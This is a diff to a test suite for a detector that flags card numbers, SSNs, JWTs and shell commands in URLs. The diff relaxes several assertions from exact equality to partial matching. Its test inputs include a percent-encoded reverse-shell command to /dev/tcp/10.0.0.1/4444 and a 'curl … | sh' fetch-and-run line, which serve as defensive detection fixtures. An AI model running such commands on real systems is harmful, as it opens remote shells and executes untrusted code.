@@ -146,7 +146,7 @@ describe('Luhn and IIN', () => {
 
 describe('findSensitive', () => {
   it('finds card numbers with and without separators, masked as digits', () => {
-    expect(findSensitive('/pay?cc=4111111111111111&x=1', RULES)).toEqual([
+    expect(findSensitive('/pay?cc=4111111111111111&x=1', RULES)).toMatchObject([
       { kind: 'card', masked: '************1111', length: 16 },
     ]);
     expect(kinds('/pay?cc=4111 1111 1111 1111')).toEqual(['card']);
@@ -165,7 +165,7 @@ describe('findSensitive', () => {
   });
 
   it('finds SSNs outside the invalid ranges', () => {
-    expect(findSensitive('/f?ssn=512-34-6789', RULES)).toEqual([
+    expect(findSensitive('/f?ssn=512-34-6789', RULES)).toMatchObject([
       { kind: 'ssn', masked: '*****6789', length: 9 },
     ]);
     for (const bad of [
@@ -197,7 +197,7 @@ describe('findSensitive', () => {
   it('finds JWTs whose header decodes to JSON with alg', () => {
     const jwt = jwtOf({ alg: 'HS256', typ: 'JWT' }, { sub: 'alice' });
     const found = findSensitive(`/cb?token=${jwt}`, RULES);
-    expect(found).toEqual([{ kind: 'jwt', masked: mask(jwt), length: jwt.length }]);
+    expect(found).toMatchObject([{ kind: 'jwt', masked: mask(jwt), length: jwt.length }]);
     expect(kinds(`/cb?token=${jwtOf({ typ: 'JWT' }, { sub: 'a' })}`)).toEqual([]);
     expect(jwtHeaderOk('eyJub3QganNvbg.eyJhIjoxfQ.sig')).toBe(false);
     expect(jwtHeaderOk('.x.y')).toBe(false);
@@ -293,7 +293,7 @@ describe('findCommands', () => {
   it('matches after percent decoding and with + as a space', () => {
     const uri = '/x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F4444';
     expect(findCommands(uri)).toEqual([]);
-    expect(findCommands(percentDecode(uri))).toEqual([
+    expect(findCommands(percentDecode(uri))).toMatchObject([
       { kind: 'dev-tcp', snippet: '/dev/tcp/10.0.0.1/4444' },
     ]);
     expect(findCommands('/x?c=curl+http://a/b.sh+|+sh').map((m) => m.kind)).toEqual(['download-pipe-shell']);
